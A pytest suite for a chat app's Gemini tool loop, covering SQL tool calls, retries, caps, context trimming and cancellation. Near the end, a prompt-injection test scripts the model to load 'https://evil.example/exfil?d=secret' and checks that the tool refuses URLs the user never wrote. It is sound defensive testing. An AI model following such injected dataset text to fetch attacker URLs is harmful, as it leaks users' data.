# ruff: noqa: F811 - test arguments name the fixtures imported from tests.fakes.fake_gemini
"""The turn's tool loop with the real SDK against FakeGemini and real Polars SQL (no Ray, no DB)."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from typing import Any

import polars as pl
import pytest
from pydantic import SecretStr

from actors.gemini import GeminiClient
from actors.llm import (
    CONTEXT_TOO_LARGE,
    MODEL_FAILED,
    NO_MODEL,
    ContextTooLong,
    ModelClient,
    ModelFailed,
)
from actors.turn import (
    EMPTY_ANSWER,
    NO_ANSWER,
    SKIPPED_CALL,
    URL_NOT_FROM_USER,
    Turn,
    normalize_url,
    urls_in,
)
from chatdf.errors import DatasetError, SqlFailed, Unavailable
from chatdf.events import parse_event
from chatdf.settings import Settings
from tests.fakes.fake_gemini import (  # noqa: F401 - fixtures
    FakeGemini,
    _candidate_chunk,
    fake_gemini,
    gemini_settings,
    usage_chunk,
)

CONV = "c0ffee00-0000-4000-8000-000000000001"
MSG = "c0ffee00-0000-4000-8000-000000000002"
SALES = {
    "id": "d1",
    "name": "sales",
    "url": "http://127.0.0.1:9/sales.csv",
    "status": "ready",
    "row_count": 3,
    "column_count": 2,
    "schema": [{"name": "region", "type": "Text"}, {"name": "amount", "type": "Float"}],
}
CITIES = {
    "id": "d2",
    "name": "table2",
    "url": "http://127.0.0.1:9/cities.parquet",
    "status": "ready",
    "row_count": 2,
    "column_count": 1,
    "schema": [{"name": "city", "type": "Text"}],
}


class Harness:
    """The turn's injected callbacks, over real Polars frames; it records everything."""

    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []
        self.usage: list[tuple[int, int]] = []
        self.loads: list[str] = []
        self.queries: list[str] = []
        self.first_token = asyncio.Event()
        self.tables = {
            "sales": pl.DataFrame({"region": ["a", "b", "a"], "amount": [1.0, 2.0, 3.0]})
        }

    async def emit(self, event: dict[str, Any]) -> None:
        parse_event(event)  # every frame must satisfy the wire contract
        self.events.append(event)
        if event["type"] == "chat_token":
            self.first_token.set()

    async def run_sql(self, sql: str, datasets: list[dict[str, Any]]) -> dict[str, Any]:
        self.queries.append(sql)
        try:
            frame = pl.SQLContext(frames=self.tables).execute(sql, eager=True)
        except Exception as exc:
            raise SqlFailed("The query failed", str(exc).splitlines()[0]) from exc
        return {
            "columns": frame.columns,
            "rows": [list(r) for r in frame.rows()],
            "total_rows": frame.height,
            "truncated": False,
            "execution_ms": 1,
        }

    async def load_dataset(self, url: str) -> dict[str, Any]:
        self.loads.append(url)
        if "missing" in url:
            raise DatasetError("The URL answered 404 Not Found")
        self.tables["table2"] = pl.DataFrame({"city": ["Oslo", "Lima"]})
        return dict(CITIES, url=url)

    async def record_usage(self, input_tokens: int, output_tokens: int) -> None:
        self.usage.append((input_tokens, output_tokens))

    def turn(
        self,
        settings: Settings,
        llm: ModelClient,
        *,
        history: Sequence[dict[str, Any]] = (),
        datasets: Sequence[dict[str, Any]] = (SALES,),
        text: str = "What is the total per region?",
    ) -> Turn:
        return Turn(
            settings=settings,
            llm=llm,
            conversation_id=CONV,
            message_id=MSG,
            history=history,
            datasets=datasets,
            user_content=text,
            emit=self.emit,
            run_sql=self.run_sql,
            load_dataset=self.load_dataset,
            record_usage=self.record_usage,
        )

    def trace(self) -> list[str]:
        """Phases and tokens in order, e.g. ['generating', 'token:Hi', 'executing', ...]."""
        return [
            e["phase"] if e["type"] == "query_status" else f"token:{e['token']}"
            for e in self.events
        ]

    def tokens(self) -> str:
        return "".join(e["token"] for e in self.events if e["type"] == "chat_token")


@pytest.fixture
def h() -> Harness:
    return Harness()


@pytest.fixture
async def llm(gemini_settings: Settings) -> AsyncIterator[GeminiClient]:
    client = GeminiClient(gemini_settings)
    yield client
    await client.aclose()


def talk(count: int) -> list[dict[str, Any]]:
    return [
        {"role": "user" if i % 2 == 0 else "assistant", "content": f"m{i:03d}", "tool_rounds": []}
        for i in range(count)
    ]


async def test_text_answer_streams_tokens_in_order(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    """WS-MSG-1: chat_token events carry the streamed text in order (queued is the caller's)."""
    fake_gemini.script_text("Hello there, world", chunks=3, usage=(10, 5))
    result = await h.turn(gemini_settings, llm).run()
    assert h.trace() == ["generating", "token:Hello ", "token:there,", "token: world"]
    assert all(e["message_id"] == MSG for e in h.events if e["type"] == "chat_token")
    assert all(e["conversation_id"] == CONV for e in h.events)
    assert result == {
        "content": "Hello there, world",
        "sql_query": None,
        "token_count": 15,
        "tool_rounds": [],
    }
    request = fake_gemini.requests[0]
    assert "sales (3 rows" in request.system_text and "Polars SQL" in request.system_text
    assert request.texts("user") == ["What is the total per region?"]


async def test_an_empty_reply_becomes_a_sentence(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    blocked = _candidate_chunk([], finish="SAFETY")
    blocked["usageMetadata"] = usage_chunk(10, 0)
    fake_gemini.script_chunks([blocked])
    result = await h.turn(gemini_settings, llm).run()
    assert result["content"] == EMPTY_ANSWER == h.tokens()
    assert h.usage == [(10, 0)]


async def test_sql_tool_call_phases_and_result_sent_back(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    """WS-MSG-7: generating → tokens → executing → formatting → tokens."""
    sql = "SELECT region, SUM(amount) AS total FROM sales GROUP BY region ORDER BY region"
    fake_gemini.script_sql(sql, text="Let me check.", call_id="call-1", usage=(20, 8))
    fake_gemini.script_text("a: 4, b: 2", chunks=1, usage=(40, 6))
    result = await h.turn(gemini_settings, llm).run()

    assert h.trace() == [
        "generating",
        "token:Let me check.",
        "executing",
        "formatting",
        "token:\n\n",
        "token:a: 4, b: 2",
    ]
    assert result["content"] == h.tokens() == "Let me check.\n\na: 4, b: 2"
    assert result["sql_query"] == sql and h.queries == [sql]
    assert result["token_count"] == 74 and h.usage == [(20, 8), (40, 6)]

    second = fake_gemini.requests[1]
    call = second.contents[-2]
    assert call["role"] == "model"
    assert call["parts"][-1]["functionCall"] == {
        "id": "call-1",
        "name": "execute_sql",
        "args": {"query": sql},
    }
    assert call["parts"][-1]["thoughtSignature"]  # replayed as received
    [sent] = second.function_responses()
    assert sent["name"] == "execute_sql" and sent["id"] == "call-1"
    assert sent["response"]["rows"] == [["a", 4.0], ["b", 2.0]]
    assert sent["response"]["total_rows"] == 2
    assert second.function_calling_mode == "AUTO"

    [round_] = result["tool_rounds"]
    assert round_["name"] == "execute_sql" and round_["args"] == {"query": sql}
    assert round_["result"] == sent["response"]
    json.dumps(result)  # stored as JSON text in Message.tool_rounds


async def test_stored_tool_rounds_replay_in_the_next_turn(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_sql("SELECT COUNT(*) AS n FROM sales")
    fake_gemini.script_text("There are 3 rows.")
    first = await h.turn(gemini_settings, llm, text="How many rows?").run()
    stored = json.loads(json.dumps(first["tool_rounds"]))
    history = [
        {"role": "user", "content": "How many rows?", "tool_rounds": []},
        {"role": "assistant", "content": first["content"], "tool_rounds": stored},
    ]
    fake_gemini.script_text("Yes.")
    await h.turn(gemini_settings, llm, history=history, text="Sure?").run()
    replay = fake_gemini.requests[2]
    assert [c["role"] for c in replay.contents] == ["user", "model", "user", "model", "user"]
    assert replay.parts("functionCall")[0]["args"] == {"query": "SELECT COUNT(*) AS n FROM sales"}
    assert replay.function_responses()[0]["response"]["rows"] == [[3]]
    assert replay.texts() == ["How many rows?", "There are 3 rows.", "Sure?"]


async def test_sql_error_goes_back_and_the_model_corrects_itself(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_sql("SELECT amont FROM sales")
    fake_gemini.script_sql("SELECT SUM(amount) AS s FROM sales")
    fake_gemini.script_text("The total is 6.")
    result = await h.turn(gemini_settings, llm).run()
    assert result["content"] == "The total is 6."
    assert result["sql_query"] == "SELECT SUM(amount) AS s FROM sales"
    error = fake_gemini.requests[1].function_responses()[0]["response"]
    assert error["error"] == "The query failed" and "amont" in error["details"]
    assert fake_gemini.requests[1].function_calling_mode == "AUTO"
    assert fake_gemini.requests[2].function_responses()[1]["response"]["rows"] == [[6.0]]
    assert h.trace().count("executing") == 2


async def test_sql_retries_are_capped_then_the_model_explains(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    retries = gemini_settings.max_sql_retries
    for i in range(retries + 1):
        fake_gemini.script_sql(f"SELECT bad{i} FROM sales")
    fake_gemini.script_text("I could not query that column.")
    result = await h.turn(gemini_settings, llm).run()
    assert len(h.queries) == retries + 1
    last = fake_gemini.requests[-1]
    assert last.function_calling_mode == "NONE"
    assert "explain" in last.function_responses()[-1]["response"]["instruction"]
    assert all(r.function_calling_mode == "AUTO" for r in fake_gemini.requests[:-1])
    assert result["content"] == "I could not query that column."
    assert result["sql_query"] is None and len(result["tool_rounds"]) == retries + 1


async def test_tool_calls_are_capped_and_the_model_answers_without_tools(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    limit = gemini_settings.max_tool_calls
    for i in range(limit):
        fake_gemini.script_sql(f"SELECT {i} AS n FROM sales LIMIT 1")
    fake_gemini.script_text("Done exploring.")
    result = await h.turn(gemini_settings, llm).run()
    assert len(h.queries) == limit
    assert fake_gemini.requests[-1].function_calling_mode == "NONE"
    assert "limit" in fake_gemini.requests[-1].function_responses()[-1]["response"]["instruction"]
    assert result["content"] == "Done exploring."
    assert result["sql_query"] == f"SELECT {limit - 1} AS n FROM sales LIMIT 1"


async def test_calls_past_the_cap_are_not_run_and_a_stubborn_model_ends_the_turn(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    settings = gemini_settings.model_copy(update={"max_tool_calls": 2})
    q = "SELECT 1 AS n FROM sales LIMIT 1"
    fake_gemini.script_sql(q, extra_calls=[("execute_sql", {"query": q}), ("load_dataset", {})])
    fake_gemini.script_sql(q)  # asked for tools although told not to
    result = await h.turn(settings, llm).run()
    assert len(h.queries) == 2
    responses = fake_gemini.requests[1].function_responses()
    assert len(responses) == 3 and responses[2]["response"]["error"] == SKIPPED_CALL
    assert len(fake_gemini.requests) == 2
    assert result["content"] == NO_ANSWER.format(limit=2)
    assert len(result["tool_rounds"]) == 3


async def test_load_dataset_tool_adds_a_table_for_the_rest_of_the_turn(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    url = "http://127.0.0.1:9/cities.parquet"
    fake_gemini.script_tool_call("load_dataset", {"url": url})
    fake_gemini.script_sql("SELECT city FROM table2 ORDER BY city")
    fake_gemini.script_text("Lima and Oslo.")
    result = await h.turn(gemini_settings, llm, datasets=[], text=f"Cities in {url}?").run()
    assert h.loads == [url]
    assert "No datasets are loaded" in fake_gemini.requests[0].system_text
    loaded = fake_gemini.requests[1].function_responses()[0]["response"]
    assert loaded == {
        "table_name": "table2",
        "row_count": 2,
        "columns": [{"name": "city", "type": "Text"}],
    }
    assert "table2 (2 rows" in fake_gemini.requests[1].system_text
    assert result["content"] == "Lima and Oslo."
    assert h.trace()[:3] == ["generating", "executing", "formatting"]


async def test_load_dataset_failure_goes_back_to_the_model(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    url = "http://127.0.0.1:9/missing.csv"
    fake_gemini.script_tool_call("load_dataset", {"url": url})
    fake_gemini.script_text("That link answered 404.")
    result = await h.turn(gemini_settings, llm, text=f"Load {url}, please.").run()
    response = fake_gemini.requests[1].function_responses()[0]["response"]
    assert response == {"error": "The URL answered 404 Not Found"}
    assert result["content"] == "That link answered 404."


async def test_rate_limited_call_is_retried(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_error(429)
    fake_gemini.script_text("Recovered.", usage=(9, 3))
    result = await h.turn(gemini_settings, llm).run()
    assert result["content"] == "Recovered." and len(fake_gemini.requests) == 2
    assert h.usage == [(9, 3)]


async def test_server_errors_exhausted_fail_the_turn(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    """WS-MSG-3: the error the caller turns into chat_error."""
    for _ in range(gemini_settings.llm_max_retries + 1):
        fake_gemini.script_error(500)
    turn = h.turn(gemini_settings, llm)
    with pytest.raises(ModelFailed) as info:
        await turn.run()
    assert info.value.error == MODEL_FAILED
    assert turn.partial()["content"] == "" and h.usage == []


async def test_context_is_the_last_messages(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_text("ok")
    await h.turn(gemini_settings, llm, history=talk(60), text="now").run()
    sent = fake_gemini.requests[0].texts()
    assert sent == [f"m{i:03d}" for i in range(10, 60)] + ["now"]


async def test_too_long_context_retries_with_ten_fewer_messages(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_too_long()
    fake_gemini.script_text("Short enough now.")
    result = await h.turn(gemini_settings, llm, history=talk(20), text="now").run()
    first, second = fake_gemini.requests
    assert first.texts() == [f"m{i:03d}" for i in range(20)] + ["now"]
    assert second.texts() == [f"m{i:03d}" for i in range(10, 20)] + ["now"]
    assert result["content"] == "Short enough now."


async def test_too_long_twice_is_the_context_too_large_error(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_too_long()
    fake_gemini.script_too_long()
    fake_gemini.script_text("never asked for")
    with pytest.raises(ContextTooLong) as info:
        await h.turn(gemini_settings, llm, history=talk(20)).run()
    assert info.value.error == CONTEXT_TOO_LARGE
    assert info.value.error == "Conversation context too large. Try starting a new conversation."
    assert len(fake_gemini.requests) == 2


async def test_usage_is_recorded_per_call_including_a_failed_one(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_sql("SELECT 1 AS n FROM sales LIMIT 1", usage=(100, 10))
    broken = _candidate_chunk([{"text": "Partial"}])
    broken["usageMetadata"] = usage_chunk(150, 4)
    fake_gemini.script_chunks([broken, _candidate_chunk([{"text": " rest"}])], drop_after=1)
    turn = h.turn(gemini_settings, llm)
    with pytest.raises(ModelFailed):
        await turn.run()
    assert h.usage == [(100, 10), (150, 4)]
    assert turn.partial()["token_count"] == 264
    assert turn.partial()["content"] == "Partial"


async def test_cancelling_keeps_the_partial_answer(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    """The actor's /stop cancels the task; what streamed so far is what gets saved."""
    reply = fake_gemini.script_text("First half, second half", chunks=2, hold_after=1)
    turn = h.turn(gemini_settings, llm)
    task = asyncio.get_running_loop().create_task(turn.run())
    await h.first_token.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    reply.release()
    partial = turn.partial()
    assert partial["content"] == "First half, " == h.tokens()
    assert partial["sql_query"] is None and partial["tool_rounds"] == []


async def test_cancelling_during_sql_keeps_the_tool_rounds_so_far(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    fake_gemini.script_sql("SELECT 1 AS n FROM sales LIMIT 1", text="Checking.")
    reply = fake_gemini.script_text("Answer", hold_after=0)
    turn = h.turn(gemini_settings, llm)
    task = asyncio.get_running_loop().create_task(turn.run())
    await asyncio.to_thread(reply.wait_reached)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    reply.release()
    partial = turn.partial()
    assert partial["content"] == "Checking."
    assert partial["sql_query"] == "SELECT 1 AS n FROM sales LIMIT 1"
    assert len(partial["tool_rounds"]) == 1


async def test_no_key_configured_is_a_clear_error(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    settings = gemini_settings.model_copy(update={"gemini_api_key": SecretStr("")})
    with pytest.raises(Unavailable) as info:
        await h.turn(settings, llm).run()
    assert info.value.error == NO_MODEL and "GEMINI_API_KEY" in info.value.error
    assert h.events == [] and fake_gemini.requests == []


async def test_the_model_loads_only_urls_the_user_wrote(
    h: Harness, llm: GeminiClient, gemini_settings: Settings, fake_gemini: FakeGemini
) -> None:
    """Prompt injection: a dataset's text may tell the model to fetch some URL; the tool
    refuses any URL the user did not write in the conversation, and nothing is fetched."""
    fake_gemini.script_tool_call("load_dataset", {"url": "https://evil.example/exfil?d=secret"})
    fake_gemini.script_text("I can only load links you paste.")
    result = await h.turn(gemini_settings, llm, text="Summarise table1 please").run()
    response = fake_gemini.requests[1].function_responses()[0]["response"]
    assert response == {"error": URL_NOT_FROM_USER}
    assert h.loads == []
    assert result["content"] == "I can only load links you paste."


def test_user_urls_are_found_with_punctuation_and_case_tolerance() -> None:
    found = urls_in(["See HTTPS://Data.Example.com/a.csv, and (http://x.io/b.parquet).", "none"])
    assert normalize_url("https://data.example.com/a.csv") in found
    assert normalize_url("http://x.io/b.parquet") in found
    assert normalize_url("https://data.example.com/A.csv") not in found  # paths are exact
